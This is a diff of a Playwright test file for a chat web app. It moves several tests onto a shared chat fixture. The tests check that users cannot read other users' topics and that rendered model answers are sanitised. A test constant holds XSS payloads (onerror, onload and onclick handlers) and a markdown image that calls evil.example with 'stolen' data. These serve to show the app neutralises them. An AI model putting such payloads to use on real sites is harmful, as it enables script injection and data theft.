@@ -69,6 +69,13 @@ def chatting(
             yield example, broker
 
 
+@pytest.fixture(scope="module")
+def quick_chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Example, BrokerProcess]]:
+    """A chat with a quick model, for tests that leave it running; the users of each are new."""
+    with chatting(tmp_path_factory.mktemp("chat"), "--tokens-per-second", "1000") as found:
+        yield found
+
+
 @pytest_asyncio.fixture(loop_scope="session")
 async def context(chromium: Browser) -> BrowserContext:
     """A browser without the libraries, so that pages show answers as plain text."""
@@ -127,16 +134,18 @@ async def test_reload_in_mid_answer(context: BrowserContext, held_model: HeldMod
         await is_complete(page)
 
 
-async def test_several_questions_and_their_history(context: BrowserContext, tmp_path: Path) -> None:
+async def test_several_questions_and_their_history(
+    context: BrowserContext, quick_chat: tuple[Example, BrokerProcess]
+) -> None:
     """The model gets the earlier questions: it answers each one otherwise. Another tab shows a new question by itself."""
-    with chatting(tmp_path, "--tokens-per-second", "1000") as (example, _):
-        page, tab = await open_chat(context, example), await open_chat(context, example)
-        questions = (QUESTION, "And then?", "May others read it?", "Again?")
-        for number in range(len(questions)):
-            await ask(page, questions[number])
-            await is_complete(page, tab, questions=questions[: number + 1])
-        await page.reload()
-        await is_complete(page, questions=questions)
+    example, _ = quick_chat
+    page, tab = await open_chat(context, example), await open_chat(context, example)
+    questions = (QUESTION, "And then?", "May others read it?", "Again?")
+    for number in range(len(questions)):
+        await ask(page, questions[number])
+        await is_complete(page, tab, questions=questions[: number + 1])
+    await page.reload()
+    await is_complete(page, questions=questions)
 
 
 async def test_two_tabs_show_the_same_answer_on_one_connection(
@@ -240,26 +249,24 @@ async def test_broker_restarted_in_between(
 
 
 async def test_a_user_reads_only_their_own_topics(
-    context: BrowserContext, chromium: Browser, tmp_path: Path
+    context: BrowserContext, chromium: Browser, quick_chat: tuple[Example, BrokerProcess]
 ) -> None:
-    with chatting(tmp_path, "--tokens-per-second", "1000") as (example, broker):
-        page = await asked(context, example)
-        await is_complete(page)
-        stranger = await chromium.new_context()
-        other = await open_chat(stranger, example)
-        await expect(other.locator("#empty")).to_be_visible()
-        assert await other.locator("article").count() == 0
-        user = await page.locator("meta[name=user]").get_attribute("content")
-        topic = f"{broker.url}/topics/chats.{user}.questions"
-        own = await (await page.request.get(f"{example.url}/token")).text()
-        foreign = await (await other.request.get(f"{example.url}/token")).text()
-        for token, status in ((own, 200), (foreign, 403), ("", 401)):
-            headers = {"Accept": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
-            assert (await stranger.request.get(topic, headers=headers)).status == status
-        publish = await stranger.request.post(
-            topic, data="forged", headers={"Authorization": f"Bearer {own}"}
-        )
-        assert publish.status == 403
+    example, broker = quick_chat
+    page = await asked(context, example)
+    await is_complete(page)
+    stranger = await chromium.new_context()
+    other = await open_chat(stranger, example)
+    await expect(other.locator("#empty")).to_be_visible()
+    assert await other.locator("article").count() == 0
+    user = await page.locator("meta[name=user]").get_attribute("content")
+    topic = f"{broker.url}/topics/chats.{user}.questions"
+    own = await (await page.request.get(f"{example.url}/token")).text()
+    foreign = await (await other.request.get(f"{example.url}/token")).text()
+    for token, status in ((own, 200), (foreign, 403), ("", 401)):
+        headers = {"Accept": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
+        assert (await stranger.request.get(topic, headers=headers)).status == status
+    publish = await stranger.request.post(topic, data="forged", headers={"Authorization": f"Bearer {own}"})
+    assert publish.status == 403
 
 
 # What a model says
@@ -270,50 +277,54 @@ EVIL = """<img src=x onerror="window.harmed='img'"> <svg onload="window.harmed='
 <p id=ask style="position:fixed" onclick="window.harmed='p'">text</p> ![pixel](https://evil.example/?stolen) **bold** [good](https://example.com)"""
 
 
-async def test_what_a_model_says_does_no_harm(chromium: Browser, tmp_path: Path) -> None:
+async def test_what_a_model_says_does_no_harm(
+    chromium: Browser, quick_chat: tuple[Example, BrokerProcess]
+) -> None:
     """The local model repeats the question."""
     context = await chromium.new_context()
     await serve_libraries(context)
     requests: list[str] = []
     context.on("request", lambda request: requests.append(request.url))
-    with chatting(tmp_path, "--tokens-per-second", "1000") as (example, broker):
-        page = await open_chat(context, example)
-        await ask(page, EVIL)
-        await expect(page.locator("article[data-state=closed] .answer strong").first).to_have_text("bold")
-        answer = page.locator(".answer")
-        assert await answer.locator("img, script, iframe, form, input, style").count() == 0
-        assert await answer.evaluate("""element => [...element.querySelectorAll("*")].flatMap(({attributes}) =>
-            [...attributes].map(({name}) => name)).filter(name => name.startsWith("on") || ["style", "id"].includes(name))""") == []  # fmt: skip
-        links = await answer.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
-        assert [link for link in links if link] == ["https://example.com"]
-        for link in await answer.get_by_text(re.compile("link|raw|text")).all():
-            await link.click(force=True)
-        assert await page.evaluate("window.harmed") is None
-        own = (example.url, broker.url, "https://cdn.jsdelivr.net/", "data:")
-        assert [url for url in requests if not url.startswith(own)] == []
+    example, broker = quick_chat
+    page = await open_chat(context, example)
+    await ask(page, EVIL)
+    await expect(page.locator("article[data-state=closed] .answer strong").first).to_have_text("bold")
+    answer = page.locator(".answer")
+    assert await answer.locator("img, script, iframe, form, input, style").count() == 0
+    assert await answer.evaluate("""element => [...element.querySelectorAll("*")].flatMap(({attributes}) =>
+        [...attributes].map(({name}) => name)).filter(name => name.startsWith("on") || ["style", "id"].includes(name))""") == []  # fmt: skip
+    links = await answer.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
+    assert [link for link in links if link] == ["https://example.com"]
+    for link in await answer.get_by_text(re.compile("link|raw|text")).all():
+        await link.click(force=True)
+    assert await page.evaluate("window.harmed") is None
+    own = (example.url, broker.url, "https://cdn.jsdelivr.net/", "data:")
+    assert [url for url in requests if not url.startswith(own)] == []
 
 
-async def test_markdown_is_shown_as_such(chromium: Browser, tmp_path: Path) -> None:
+async def test_markdown_is_shown_as_such(
+    chromium: Browser, quick_chat: tuple[Example, BrokerProcess]
+) -> None:
     """With the libraries of npm, which match the hashes in the page."""
     context = await chromium.new_context()
     await serve_libraries(context)
-    with chatting(tmp_path, "--tokens-per-second", "1000") as (example, _):
-        page = await open_chat(context, example)
-        await ask(page)
-        await expect(page.locator("article[data-state=closed] h3")).to_have_text("Where this answer is")
-        await expect(page.locator(".answer ol > li")).to_have_count(3)
-        await expect(page.locator(".answer tbody tr")).to_have_count(4)
+    example, _ = quick_chat
+    page = await open_chat(context, example)
+    await ask(page)
+    await expect(page.locator("article[data-state=closed] h3")).to_have_text("Where this answer is")
+    await expect(page.locator(".answer ol > li")).to_have_count(3)
+    await expect(page.locator(".answer tbody tr")).to_have_count(4)
 
 
 async def test_the_browser_refuses_to_make_html_of_text_in_any_other_way(
-    chromium: Browser, tmp_path: Path
+    chromium: Browser, quick_chat: tuple[Example, BrokerProcess]
 ) -> None:
     context = await chromium.new_context()
     await serve_libraries(context)
-    with chatting(tmp_path) as (example, _):
-        page = await open_chat(context, example)
-        made = "() => { try { document.body.innerHTML = '<b>'; return 'made'; } catch (error) { return error.name; } }"
-        assert await page.evaluate(made) == "TypeError"
+    example, _ = quick_chat
+    page = await open_chat(context, example)
+    made = "() => { try { document.body.innerHTML = '<b>'; return 'made'; } catch (error) { return error.name; } }"
+    assert await page.evaluate(made) == "TypeError"
 
 
 # The command
